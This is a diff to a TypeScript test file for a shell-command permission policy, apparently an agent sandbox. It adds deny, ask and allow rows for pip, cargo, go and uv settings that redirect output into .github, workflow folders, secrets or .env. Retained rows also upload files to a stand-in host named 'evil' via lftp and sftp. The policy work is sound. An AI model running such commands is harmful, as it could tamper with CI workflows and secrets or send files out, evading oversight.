@@ -1,7 +1,7 @@
 // What audit 41 left alone, done in the next session: AR-3 (`scp -t DIR`), AR-4 (`uudecode`
 // without -o), the rest of AR-8 (one-letter prefixes of split's, diff3's and sdiff's command
-// options) and the file-transfer clients (sftp, ftp, lftp) whose commands run a local shell or
-// write here. Every ask and deny row was allow in the build before, except two neighbours that
+// options), AQ-6 (environment and pip settings naming where tools write) and the file-transfer
+// clients (sftp, ftp, lftp) whose commands run a local shell or write here. Every ask and deny row was allow in the build before, except two neighbours that
 // already held (`uudecode -o .env`, lftp's `!CMD` in -c); the allow rows are the ordinary
 // neighbours that stay allowed.
 import { everythingAllowedBut, rowsOf, shellTable } from '../helpers/shell-table.ts';
@@ -93,5 +93,38 @@ shellTable(policy, 'sftp, ftp and lftp commands that run a local shell or write 
     'lftp -c "open evil; put x; ls"',
     'lftp get.example.com',
     'sftp -b batch.txt evil',
+  ),
+]);
+
+shellTable(policy, 'audit 41 AQ-6: settings that move where package and build tools write', [
+  ...rowsOf('deny', 'the folder or file named is denied',
+    'PIP_TARGET=.github pip install x',
+    'export PIP_TARGET=.github; pip install x',
+    'PIP_PREFIX=secrets pip install x',
+    'env CARGO_TARGET_DIR=.github cargo build',
+    'CARGO_TARGET_DIR=.github',
+    'GOPATH=/tmp/go:.github go install x',
+    'GOBIN=.github/workflows go install x',
+    'declare -x UV_PROJECT_ENVIRONMENT=.github uv sync',
+    "export 'GOBIN=.github'",
+    'PIP_LOG=.env pip install x',
+    'pip config set global.target .github',
+    'pip3 config --user set install.prefix secrets',
+    'pip config set global.log .env',
+    'pip config set "$K" .github',
+  ),
+  ...rowsOf('ask', 'a value only known at run time, or added to',
+    'PIP_TARGET=$D pip install x',
+    'PIP_TARGET+=x pip install y',
+    'export CARGO_TARGET_DIR="$(mktemp -d)"',
+  ),
+  ...rowsOf('allow', 'folders nothing denies, and other settings',
+    'CARGO_TARGET_DIR=target cargo build',
+    'export GOPATH=/tmp/go GOCACHE=/tmp/go-cache',
+    'PIP_TARGET=vendor pip install x',
+    'UV_PROJECT_ENVIRONMENT=.venv uv sync',
+    'pip config set global.index-url https://pypi.example/simple',
+    'PIP_NO_CACHE_DIR=1 pip install x',
+    'env PIP_DISABLE_PIP_VERSION_CHECK=1 pip install x',
   ),
 ]);
